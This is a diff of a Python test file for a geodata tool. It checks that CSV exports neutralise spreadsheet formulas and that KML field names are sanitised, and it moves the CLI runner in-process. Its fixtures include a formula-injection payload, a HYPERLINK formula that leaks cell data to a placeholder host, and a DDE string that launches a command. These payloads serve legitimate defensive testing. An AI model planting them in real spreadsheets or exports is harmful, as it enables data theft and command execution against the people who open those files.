@@ -3,17 +3,17 @@ renamed), CSV cells never live formulas, GeoJSON of features without ids (issue 
 
 from __future__ import annotations
 
+import contextlib
 import csv
 import io
 import json
-import subprocess
-import sys
 import xml.etree.ElementTree as ElementTree
 
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from geo.cli import main
 from geo.errors import ExportError, ImportDataError
 from geo.export import SUFFIXES, export_bytes, export_layers
 from geo.export.csvtext import FORMULA_START, safe_cell
@@ -22,7 +22,7 @@ from geo.importers.options import ImportOptions
 from geo.importers.reader import import_bytes
 from geo.notices.pasted import notice_features
 
-from ..conftest import LAYERS, ROOT
+from ..conftest import LAYERS
 
 KML = "{http://www.opengis.net/kml/2.2}"
 FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+cmd|' /C calc'!A0",
@@ -59,17 +59,20 @@ def _hostile_csv() -> bytes:
     return out.getvalue().encode("utf-8")
 
 
-def _run(*args: str) -> subprocess.CompletedProcess[str]:
-    return subprocess.run([sys.executable, "-m", "geo", *args], capture_output=True, text=True,
-                          cwd=ROOT, timeout=120)
+def _run(*args: str) -> tuple[int, str]:
+    """The command run in this process: (exit code, stderr)."""
+    err = io.StringIO()
+    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
+        code = main(list(args))
+    return code, err.getvalue()
 
 
 def test_kml_field_names_are_renamed_so_the_file_is_well_formed(tmp_path):
     source = tmp_path / "hostile.csv"
     source.write_bytes(_hostile_csv())
     out = tmp_path / "hostile.kml"
-    done = _run("import", str(source), "-o", str(out))
-    assert done.returncode == 0, done.stderr
+    code, err = _run("import", str(source), "-o", str(out))
+    assert code == 0, err
     root = parse_kml(out.read_bytes())
     fields = [field.get("name") for field in root.iter(f"{KML}SimpleField")]
     assert "R_D" in fields and "x_ onload__y" in fields and "_b_bold__b_" in fields
@@ -112,8 +115,8 @@ def test_geo_import_to_csv_neutralises_formulas(tmp_path):
     source = tmp_path / "hostile.csv"
     source.write_bytes(_hostile_csv())
     out, skipped = tmp_path / "out.csv", tmp_path / "skipped.csv"
-    done = _run("import", str(source), "-o", str(out), "--skipped", str(skipped))
-    assert done.returncode == 0, done.stderr
+    code, err = _run("import", str(source), "-o", str(out), "--skipped", str(skipped))
+    assert code == 0, err
     rows = read_csv(out.read_bytes())
     assert_no_live_formula(rows)
     header = rows[0]
@@ -128,9 +131,9 @@ def test_the_skipped_report_neutralises_formulas(tmp_path):
     source = tmp_path / "bad.csv"
     source.write_text('name,=HYPERLINK("x"),lon\nA,=1+1,125\nB,39,125\n', encoding="utf-8")
     out, skipped = tmp_path / "out.geojson", tmp_path / "skipped.csv"
-    done = _run("import", str(source), "-o", str(out), "--lat", '=HYPERLINK("x")',
-                "--skipped", str(skipped))
-    assert done.returncode == 0, done.stderr
+    code, err = _run("import", str(source), "-o", str(out), "--lat", '=HYPERLINK("x")',
+                     "--skipped", str(skipped))
+    assert code == 0, err
     rows = read_csv(skipped.read_bytes())
     assert rows[1][1] == "'=HYPERLINK(\"x\")"
     assert_no_live_formula(rows)
@@ -148,8 +151,8 @@ def test_geo_export_and_export_bytes_neutralise_formulas(tmp_path, layers):
         collection["features"] = features
         (folder / f"{name}.geojson").write_text(json.dumps(collection), encoding="utf-8")
     out = tmp_path / "all.csv"
-    done = _run("export", "--format", "csv", "--layers-dir", str(folder), "-o", str(out))
-    assert done.returncode == 0, done.stderr
+    code, err = _run("export", "--format", "csv", "--layers-dir", str(folder), "-o", str(out))
+    assert code == 0, err
     for data in (out.read_bytes(), export_bytes(hostile, "csv")):
         rows = read_csv(data)
         assert_no_live_formula(rows)
